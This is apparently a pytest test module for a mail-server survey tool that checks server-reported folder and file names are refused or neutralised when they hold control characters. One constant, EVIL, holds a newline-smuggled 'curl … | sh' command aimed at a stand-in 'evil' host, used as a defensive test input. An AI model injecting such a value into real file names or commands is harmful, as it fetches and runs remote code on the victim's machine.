"""What a server says is bounded and checked before anything is made of it."""

from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playbook.errors import AnswerUnreadable, RespondError, ServerRefused
from playbook.mail.icewarp.survey import after, survey
from playbook.mail.names import holds_controls
from playbook.mail.survey import Account, Kind, Role, Survey
from playbook.transports.frame import ScriptRecord
from tests.support.surveys import SURVEY

WHOLE = (
    ScriptRecord("host", ("mail1", "0", "1764000000")),
    ScriptRecord(
        "product",
        ("icewarp", "14.3", "Linux", "get", "yes", "/i/tool.sh", "/i/icewarpd.sh", "/i"),
    ),
    ScriptRecord("module", ("smtp", "12", "yes", "220 mail1")),
    ScriptRecord("folder", ("outgoing", "/i/mail/_outgoing", "folder", "/i/mail/_outgoing", "7")),
    ScriptRecord("aside", ("outgoing", "/i/mail/_outgoing.bak")),
    ScriptRecord("pairs", ("3",)),
    ScriptRecord("state", ("/i/.respond",)),
    ScriptRecord("logs", ("/i/logs",)),
)
EVIL = "/i/mail/x\ncurl -s http:evil | sh"
CONTROLS = ["\n", "\r", "\x1b]0;x\x07", "\x9b", "\u202e", "\udc9b", "\x00"]


def looked(*records: ScriptRecord) -> Survey:
    return survey((*WHOLE, *records), (), 1000)


def test_a_server_in_good_order() -> None:
    seen = looked()
    assert (seen.smtp.running, seen.state_folder, seen.unnameable) == (True, "/i/.respond", 0)
    assert [each.path for each in seen.aside] == ["/i/mail/_outgoing.bak"]


@pytest.mark.parametrize("control", CONTROLS)
@pytest.mark.parametrize(
    ("kind", "fields", "place"),
    [
        ("folder", ("outgoing", "/i/q", "link", "/i/q", "7"), 1),
        ("folder", ("outgoing", "/i/q", "link", "/i/q", "7"), 3),
        ("folder", ("incoming", "/i/q", "link", "/i/q", "7"), 3),
        ("product", WHOLE[1].fields, 5),
        ("product", WHOLE[1].fields, 6),
        ("product", WHOLE[1].fields, 7),
        ("state", ("/i",), 0),
        ("logs", ("/i",), 0),
    ],
)
def test_a_name_that_could_be_obeyed_is_refused_at_the_first_look(
    kind: str, fields: tuple[str, ...], place: int, control: str
) -> None:
    odd = tuple(f"{each}{control}x" if n == place else each for n, each in enumerate(fields))
    with pytest.raises(ServerRefused) as refused:
        looked(ScriptRecord(kind, odd))
    assert refused.value.reason == "name"
    assert not holds_controls(str(refused.value))


@pytest.mark.parametrize("control", CONTROLS)
def test_a_folder_that_anybody_may_plant_beside_the_queue_keeps_nobody_out(control: str) -> None:
    seen = looked(ScriptRecord("aside", ("outgoing", f"/i/mail/_outgoing.{control}")))
    assert seen.unnameable == 1
    assert [each.path for each in seen.aside] == ["/i/mail/_outgoing.bak"]


@pytest.mark.parametrize("name", ["/srv/Post Büro/_outgoing", "/srv/\udce9t\udce9", "/srv/日本"])
def test_a_name_in_any_language_is_a_name(name: str) -> None:
    folder = ScriptRecord("folder", ("outgoing", name, "folder", name, "7"))
    assert [each.target for each in looked(folder).folders][-1] == name


def test_a_name_that_is_swapped_during_the_run_is_nothing_to_act_on() -> None:
    folder = ScriptRecord("folder", ("outgoing", "/i/mail/_outgoing", "link", EVIL, "7"))
    seen = after((folder, ScriptRecord("aside", ("outgoing", EVIL))), SURVEY)
    found = seen.folder(Role.OUTGOING)
    assert found
    assert found.kind is Kind.OTHER
    assert not holds_controls(found.target)
    assert seen.aside == ()


def said_of(take: Callable[[], Survey]) -> str:
    try:
        take()
    except RespondError as error:
        return str(error)
    return ""


RECORDS = st.lists(
    st.builds(
        ScriptRecord,
        st.sampled_from([each.kind for each in WHOLE] + ["account", "account_setting", "lease"])
        | st.sampled_from(["log", "sampled", "submitter", "volume", "watchdog", "submission"]),
        st.lists(st.text(max_size=9), max_size=9).map(tuple),
    ),
    max_size=12,
)


@settings(max_examples=300, deadline=None)
@given(RECORDS)
def test_whatever_a_server_says_is_understood_or_refused(records: list[ScriptRecord]) -> None:
    assert not holds_controls(said_of(lambda: looked(*records)))
    assert not holds_controls(said_of(lambda: after(tuple(records), SURVEY)))


@pytest.mark.parametrize(
    "missing", [each.kind for each in WHOLE if each.kind not in ("folder", "aside")]
)
def test_a_survey_that_lacks_a_part_is_none(missing: str) -> None:
    with pytest.raises(AnswerUnreadable):
        survey(tuple(each for each in WHOLE if each.kind != missing), (), 1000)


def test_an_account_is_followed_by_its_settings_and_several_are_candidates() -> None:
    def known(*records: tuple[str, ...]) -> Account:
        said = tuple(ScriptRecord(kind, tuple(fields)) for kind, *fields in records)
        return survey((*WHOLE, *said), ("info",), 1000).accounts[0]

    one = (("account", "info", " Info@D.example "), ("account_setting", "U_SMTP", "0"))
    two = (*one, ("account", "info", "info@e.example"))
    assert (known(*one).address, known(*one).may_submit) == ("info@d.example", False)
    assert known(*two).candidates == ("info@d.example", "info@e.example")
    for odd in ("a b@d.example", "a\x1b@d.example", ""):
        assert known(("account", "info", odd)) == Account("info", "")


def test_what_was_seen_before_stays_where_a_change_says_nothing_of_it() -> None:
    assert after((ScriptRecord("copied", ("1",)),), SURVEY) == SURVEY
    down = after((ScriptRecord("module", ("smtp", "", "no", "")),), replace(SURVEY, watchdog=None))
    assert down.smtp.stopped
